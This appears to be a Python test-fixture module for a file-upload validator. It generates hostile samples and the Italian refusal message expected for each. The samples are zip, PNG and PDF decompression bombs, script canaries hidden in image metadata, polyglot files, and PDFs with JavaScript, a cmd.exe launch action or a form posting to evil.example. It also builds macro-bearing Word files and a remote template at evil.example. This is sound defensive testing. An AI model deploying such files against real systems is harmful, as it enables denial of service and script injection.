"""Files that nobody should be able to leave here, made by code: none of them lies in the project."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cached_property
from typing import Any

import pikepdf
from PIL import Image, PngImagePlugin

from tests.samples import ODT, archive, docx, odt, pdf, picture

# What must not be in anything that is kept.
CANARY = b"<script>alert('canarino')</script>"
UNKNOWN = "Tipo di file non ammesso: si accettano PDF, ODT, ODS, ODP, DOCX, XLSX, JPEG, PNG e WebP."
BROKEN_PICTURE = "L'immagine è danneggiata."
TOO_MANY_PIXELS = "L'immagine ha troppi pixel: riducila, oppure salvala come JPEG."
SCRIPTED = "Il PDF contiene script o altri file: esportalo di nuovo senza."
PROTECTED, BROKEN_PDF = "Il PDF è protetto: togli la protezione e caricalo di nuovo.", "Il PDF è danneggiato."
TAIL, COMPLEX = (
    "In coda al PDF c'è qualcosa che non ne fa parte: esportalo di nuovo.",
    "Il PDF è troppo complesso: esportalo di nuovo, più semplice.",
)
TOO_BIG, BROKEN_ZIP = "Il documento è troppo grande.", "Il documento è danneggiato o protetto."
MACROS = "Il documento contiene macro: salvalo senza."
FETCHED = "Il documento prende il suo modello da un altro sito: salvalo senza."


@dataclass(frozen=True)
class Hostile:
    """How it is made, under which name it comes, and why it is refused; without a reason it is kept, and harmless."""

    make: Callable[[], bytes]
    said: str = ""
    name: str = "relazione.pdf"

    @cached_property
    def data(self) -> bytes:
        """Made once: some of them take a second."""
        return self.make()


# Pictures -----------------------------------------------------------------------------------------------------------
def chunk(kind: bytes, data: bytes) -> bytes:
    """A part of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(side: int, pixels: bytes = b"\0" * 9, *more: bytes) -> bytes:
    """A PNG that claims to be this large; unless told otherwise it holds next to nothing."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(more) + chunk(b"IDAT", zlib.compress(pixels, 9)) + chunk(b"IEND", b"")


def large_png(side: int) -> bytes:
    """All of its pixels are there: half a gigabyte of black in two megabytes."""
    packer, rows = zlib.compressobj(1), []
    for _n in range(side):
        rows.append(packer.compress(bytes(1 + 3 * side)))
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", b"".join([*rows, packer.flush()])) + chunk(b"IEND", b"")


def talking(form: str) -> bytes:
    """A picture with the canary in whatever a picture can carry, and behind its end."""
    exif = Image.Exif()
    exif[0x010E] = CANARY.decode()
    texts = PngImagePlugin.PngInfo()
    texts.add_text("Comment", CANARY.decode())
    texts.add_itxt("XML:com.adobe.xmp", CANARY.decode())
    inside: dict[str, Any] = {
        "JPEG": {"comment": CANARY, "xmp": CANARY, "icc_profile": CANARY},
        "PNG": {"pnginfo": texts, "icc_profile": CANARY},
        "WEBP": {"xmp": CANARY, "icc_profile": CANARY},
    }
    return picture(form, exif=exif, **inside[form]) + CANARY


def moving(form: str) -> bytes:
    """Two hundred pictures in one."""
    frames = [Image.new("RGB", (8, 6), (n, 0, 0)) for n in range(200)]
    return picture(form, save_all=True, append_images=frames)


# Office documents ---------------------------------------------------------------------------------------------------
def bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("mimetype", ODT)
        with file.open("content.xml", "w") as entry:
            for _ in range(201):
                entry.write(bytes(1024 * 1024))
    return out.getvalue()


def lying_bomb() -> bytes:
    """200 MB in the line that tells what the document is; the lists say that it has 39 bytes."""
    whole = bytearray(archive({"mimetype": bytes(200 * 1024 * 1024)}))
    size = struct.pack("<I", 200 * 1024 * 1024)
    while (found := whole.find(size)) >= 0:
        whole[found : found + 4] = struct.pack("<I", len(ODT))
    return bytes(whole)


def many_entries(number: int = 300_000) -> bytes:
    """A list of so many entries that were never written, all of them the same: what it takes is to read it."""
    one = archive({"a": b""}, zipfile.ZIP_STORED)
    at = one.index(b"PK\x01\x02")
    entry, end = one[at : one.index(b"PK\x05\x06")], bytearray(one[one.index(b"PK\x05\x06") :])
    end[8:12] = b"\xff" * 4
    end[12:16] = struct.pack("<I", len(entry) * number)
    return one[:at] + entry * number + bytes(end)


def damaged(compression: int) -> bytes:
    """The first entry's data overwritten."""
    data = bytearray(archive({"mimetype": ODT.encode() * 3}, compression))
    begin = data.index(b"mimetype") + len("mimetype")
    data[begin + 4 : begin + 16] = b"\xff" * 12
    return bytes(data)


def word(**entries: bytes) -> bytes:
    """A Word document with these beside its text, or in place of its lists."""
    lists = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>"}
    return archive({**lists, **entries})


def opendocument(**entries: bytes) -> bytes:
    return archive({"mimetype": ODT.encode(), "content.xml": b"<office/>", **entries})


RELATION = b'<Relationship Type="x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>'


# PDF ----------------------------------------------------------------------------------------------------------------
def made_pdf(change: Callable[[pikepdf.Pdf], object], **options: Any) -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        change(document)
        document.save(out, **options)
    return out.getvalue()


def script() -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))


def annotated(document: pikepdf.Pdf, **annotation: Any) -> None:
    made = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=[0, 0, 9, 9], **annotation)
    document.pages[0].Annots = pikepdf.Array([document.make_indirect(made)])


def named_script(document: pikepdf.Pdf) -> None:
    names = pikepdf.Array([pikepdf.String("a"), document.make_indirect(script())])
    document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=names))


def script_on_opening(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = script()


def program_on_opening(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))


def script_on_closing(document: pikepdf.Pdf) -> None:
    document.Root.AA = pikepdf.Dictionary(WC=script())


def script_on_a_page(document: pikepdf.Pdf) -> None:
    document.pages[0].AA = pikepdf.Dictionary(O=script())


def script_behind_a_link(document: pikepdf.Pdf) -> None:
    annotated(document, Subtype=pikepdf.Name.Link, A=script())


def script_as_an_address(document: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(" JavaScript:alert(1)"))
    annotated(document, Subtype=pikepdf.Name.Link, A=action)


def embedded_file(document: pikepdf.Pdf) -> None:
    document.attachments["a.txt"] = b"ciao"


def file_on_a_page(document: pikepdf.Pdf) -> None:
    stream = document.make_stream(b"MZ")
    file = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("a.exe"), EF=pikepdf.Dictionary(F=stream))
    annotated(document, Subtype=pikepdf.Name.FileAttachment, FS=file)


def form_that_sends(document: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/"))
    annotated(document, Subtype=pikepdf.Name.Link, A=action)


def many_objects(document: pikepdf.Pdf) -> None:
    document.Root.X = pikepdf.Array([document.make_indirect(pikepdf.Array([n])) for n in range(50_001)])


def in_disguise() -> bytes:
    """The same names, spelt as no search for them finds them."""
    plain = made_pdf(script_on_opening, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return plain.replace(b"/JavaScript", b"/J#61vaScr#69pt").replace(b"/JS", b"/#4a#53")


def packed(kind: bytes, size: int, head: bytes = b"", more: bytes = b"") -> bytes:
    """A PDF whose table, or a box of objects in it, unpacks to so many bytes of nothing."""
    packer = zlib.compressobj(1)
    body = packer.compress(head)
    for _n in range(size // 1024**2):
        body += packer.compress(bytes(1024 * 1024))
    body += packer.flush()
    words = b"<</Type/%b/Filter/FlateDecode/Length %d%b>>stream\n" % (kind, len(body), more)
    return b"3 0 obj\n" + words + body + b"\nendstream\nendobj\n"


def bomb_of_objects() -> bytes:
    """Its pages lie in a box of 200 MB."""
    head = b"1 0 2 30 <</Type/Catalog/Pages 2 0 R>>     <</Type/Pages/Kids[]/Count 0>>"
    box = packed(b"ObjStm", 200 * 1024**2, head, b"/N 2/First 9")
    begin = b"%PDF-1.7\n"
    table = len(begin + box)
    # One byte for the kind, four for the place, one for the number.
    rows = b"".join(
        struct.pack(">BIB", *row) for row in ((0, 0, 0), (2, 3, 0), (2, 3, 1), (1, len(begin), 0), (1, table, 0))
    )
    words = b"<</Type/XRef/W[1 4 1]/Size 5/Root 1 0 R/Length %d>>stream\n" % len(rows)
    return begin + box + b"4 0 obj\n" + words + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % table


def bomb_as_table() -> bytes:
    """Its table of contents has 200 MB."""
    begin = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n"
    table = packed(b"XRef", 200 * 1024**2, b"", b"/W[1 4 1]/Size 80000000/Root 1 0 R")
    return begin + table + b"startxref\n%d\n%%%%EOF\n" % len(begin)


def bomb_on_a_page(document: pikepdf.Pdf) -> None:
    """What is drawn unpacks to 200 MB; nobody here draws it."""
    packer = zlib.compressobj(1)
    body = b"".join([*(packer.compress(b" " * 1024 * 1024) for _n in range(200)), packer.flush()])
    document.pages[0].Contents = pikepdf.Stream(document, body, Filter=pikepdf.Name.FlateDecode)


def nested(depth: int) -> bytes:
    """Lists in lists in the first of its objects."""
    return pdf().replace(b"/Type /Catalog", b"/Type /Catalog /X " + b"[" * depth + b"]" * depth)


COLLECTION: dict[str, Hostile] = {
    "empty": Hostile(lambda: b"", "Il file è vuoto."),
    # Other kinds, whatever they are called.
    "svg": Hostile(lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", UNKNOWN, "a.svg"),
    "svg as png": Hostile(lambda: b"<?xml version='1.0'?><svg onload='alert(1)'/>", UNKNOWN, "a.png"),
    "html": Hostile(lambda: b"<!doctype html><script>alert(1)</script>", UNKNOWN, "a.pdf.html"),
    "html as jpeg": Hostile(lambda: b"<html>" + CANARY + b"</html>", UNKNOWN, "a.jpg"),
    "mhtml": Hostile(lambda: b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n" + CANARY, UNKNOWN, "a.mht"),
    "windows": Hostile(lambda: b"MZ\x90\x00" + bytes(500), UNKNOWN, "relazione.pdf.exe"),
    "linux": Hostile(lambda: b"\x7fELF" + bytes(500), UNKNOWN),
    "shell": Hostile(lambda: b"#!/bin/sh\necho ciao\n", UNKNOWN, "a.pdf.sh"),
    "old word": Hostile(lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5_000), UNKNOWN, "a.docx"),
    "gzip": Hostile(lambda: zlib.compress(b"x" * 100, wbits=31), UNKNOWN, "a.svgz"),
    "gif": Hostile(lambda: picture("GIF"), UNKNOWN),
    "gif and script": Hostile(lambda: b"GIF89a/*" + picture("GIF")[8:] + b"*/=1;alert(1)", UNKNOWN, "a.gif"),
    "tiff": Hostile(lambda: picture("TIFF"), UNKNOWN),
    "html and jpeg": Hostile(lambda: CANARY + picture("JPEG"), UNKNOWN, "a.jpg"),
    # Pictures.
    "cut jpeg": Hostile(lambda: picture("JPEG", (400, 300))[:900], BROKEN_PICTURE),
    "cut png": Hostile(lambda: picture("PNG", (400, 300))[:120], BROKEN_PICTURE),
    "64 megapixel": Hostile(lambda: png(8_000), TOO_MANY_PIXELS),
    "13000 square": Hostile(lambda: large_png(13_000), TOO_MANY_PIXELS, "a.png"),
    "60000 square": Hostile(lambda: png(60_000), TOO_MANY_PIXELS),
    "text bomb": Hostile(
        lambda: png(2, bytes(14), chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(100 * 1024**2)))), BROKEN_PICTURE, "a.png"
    ),
    "jpeg and script": Hostile(lambda: talking("JPEG"), name="a.jpg.php"),
    "png and script": Hostile(lambda: talking("PNG"), name="a.png"),
    "webp and script": Hostile(lambda: talking("WEBP"), name="a.webp"),
    "jpeg and archive": Hostile(lambda: picture("JPEG") + archive({"A.class": CANARY}, zipfile.ZIP_STORED), name="a.jar"),
    "moving webp": Hostile(lambda: moving("WEBP"), name="a.webp"),
    "moving png": Hostile(lambda: moving("PNG"), name="a.png"),
    # Archives.
    "zip": Hostile(lambda: archive({"a.txt": b"x"}), UNKNOWN),
    "jar": Hostile(lambda: archive({"META-INF/MANIFEST.MF": b"x", "A.class": b"x"}), UNKNOWN),
    "book": Hostile(lambda: archive({"mimetype": b"application/epub+zip"}), UNKNOWN, "a.odt"),
    "archive and page": Hostile(lambda: odt() + CANARY, BROKEN_ZIP, "a.odt"),
    "archive with words": Hostile(lambda: _commented(odt()), BROKEN_ZIP, "a.odt"),
    "5001 entries": Hostile(lambda: archive({f"{n}": b"" for n in range(5_001)}, zipfile.ZIP_STORED), TOO_BIG),
    "300000 entries": Hostile(many_entries, TOO_BIG, "a.odt"),
    "bomb": Hostile(bomb, TOO_BIG, "a.odt"),
    "bomb that lies": Hostile(lying_bomb, BROKEN_ZIP, "a.odt"),
    "bomb as list": Hostile(lambda: word(**{"[Content_Types].xml": bytes(20 * 1024**2)}), TOO_BIG, "a.docx"),
    "cut odt": Hostile(lambda: odt()[:60], BROKEN_ZIP),
    "bad deflate": Hostile(lambda: damaged(zipfile.ZIP_DEFLATED), BROKEN_ZIP),
    "bad bzip2": Hostile(lambda: damaged(zipfile.ZIP_BZIP2), BROKEN_ZIP),
    "bad lzma": Hostile(lambda: damaged(zipfile.ZIP_LZMA), BROKEN_ZIP),
    # Documents with programs, or that nobody can read.
    "word macros": Hostile(
        lambda: word(**{"word/vbaProject.bin": b"x"}),
        MACROS,
        "a.docm",
    ),
    "word macros by another name": Hostile(
        lambda: word(
            **{"[Content_Types].xml": b"application/vnd.ms-office.vbaProject", "word/innocuo.bin": b"x"},
        ),
        MACROS,
        "a.docx",
    ),
    "word with controls": Hostile(
        lambda: word(**{"[Content_Types].xml": b"application/vnd.ms-office.activeX+xml"}), MACROS, "a.docx"
    ),
    "word with a template from elsewhere": Hostile(
        lambda: word(**{"word/_rels/settings.xml.rels": RELATION}), FETCHED, "a.docx"
    ),
    "odf macros": Hostile(lambda: opendocument(**{"Basic/Standard/Module1.xml": b"x"}), MACROS, "a.odt"),
    "odf scripts": Hostile(lambda: opendocument(**{"Scripts/python/a.py": b"x"}), MACROS, "a.odt"),
    "locked odf": Hostile(
        lambda: opendocument(**{"META-INF/manifest.xml": b"<manifest:encryption-data/>"}), BROKEN_ZIP, "a.odt"
    ),
    # PDF.
    "bad pdf": Hostile(lambda: b"%PDF-1.7\n" + b"x" * 300, BROKEN_PDF),
    "page before a pdf": Hostile(lambda: CANARY + pdf(), UNKNOWN),
    "pdf and archive": Hostile(lambda: pdf() + docx(), TAIL),
    "pdf and page": Hostile(lambda: pdf() + CANARY, TAIL, "a.pdf.html"),
    **{
        change.__name__.replace("_", " "): Hostile(lambda change=change: made_pdf(change), SCRIPTED)
        for change in (
            named_script,
            script_on_opening,
            program_on_opening,
            script_on_closing,
            script_on_a_page,
            script_behind_a_link,
            script_as_an_address,
            embedded_file,
            file_on_a_page,
            form_that_sends,
        )
    },
    "script in a box": Hostile(
        lambda: made_pdf(script_on_a_page, object_stream_mode=pikepdf.ObjectStreamMode.generate), SCRIPTED
    ),
    "script in disguise": Hostile(in_disguise, SCRIPTED),
    "locked pdf": Hostile(lambda: _locked("segreto"), PROTECTED),
    "pdf locked for changes": Hostile(lambda: _locked(""), PROTECTED),
    "pdf of 50001 objects": Hostile(lambda: made_pdf(many_objects), COMPLEX),
    "pdf of nested lists": Hostile(lambda: nested(20_000), BROKEN_PDF),
    "pdf bomb of objects": Hostile(bomb_of_objects, BROKEN_PDF),
    "pdf bomb as table": Hostile(bomb_as_table, BROKEN_PDF),
    "pdf bomb on a page": Hostile(lambda: made_pdf(bomb_on_a_page)),
}


def _commented(data: bytes) -> bytes:
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as file:
        file.comment = CANARY
    return out.getvalue()


def _locked(user: str) -> bytes:
    return made_pdf(lambda document: None, encryption=pikepdf.Encryption(owner="x", user=user))
